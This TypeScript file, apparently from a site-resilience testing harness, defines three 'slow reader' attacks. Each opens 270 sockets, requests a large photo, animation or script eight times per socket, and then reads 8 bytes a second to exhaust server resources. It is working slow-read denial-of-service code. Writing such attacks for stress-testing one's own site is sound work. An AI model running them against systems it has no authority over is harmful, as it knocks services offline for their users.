import { Counts } from '../wire/counts.js';
import { headOf } from '../wire/http-text.js';
import { closeAll, pause, Wire } from '../wire/sockets.js';
import { asMember, times, type Attack, type Target } from './attack.js';

const sockets = 270;

export const slowReaders: Attack[] = [
  {
    name: 'slow readers of photos',
    item: '2',
    isShort: true,
    members: 1,
    photo: 'photo',
    seconds: 15,
    about: `${sockets} sockets of a member request a large photo 8 times each and read 8 bytes a second`,
    run: readOwnPhoto,
  },
  {
    name: 'slow readers of an animation',
    item: '2',
    members: 1,
    photo: 'animation',
    seconds: 15,
    about: 'the same with the largest animation that the site accepts',
    run: readOwnPhoto,
  },
  {
    name: 'slow readers of a static file',
    item: '2',
    isShort: true,
    seconds: 15,
    about: `${sockets} unauthenticated sockets request the largest script 8 times each and read as slowly`,
    run: (target, signal) =>
      readSlowly(target, signal, headOf({ path: target.asset, address: '198.51.100.9' })),
  },
];

function readOwnPhoto(target: Target, signal: AbortSignal) {
  const path = `/uploads/${target.members[0].photo}`;
  return readSlowly(target, signal, headOf(asMember(target, { path })));
}

async function readSlowly(target: Target, signal: AbortSignal, head: string) {
  const counts = new Counts();
  // One response may fit into the socket buffers; eight do not.
  const wires = times(sockets, () => new Wire(target, { isReading: false }));
  for (const wire of wires) wire.write(head.repeat(8));
  while (!signal.aborted) {
    for (const { socket } of wires) socket.read(8);
    await pause(1000, signal);
  }
  await closeAll(wires, counts);
  return counts;
}
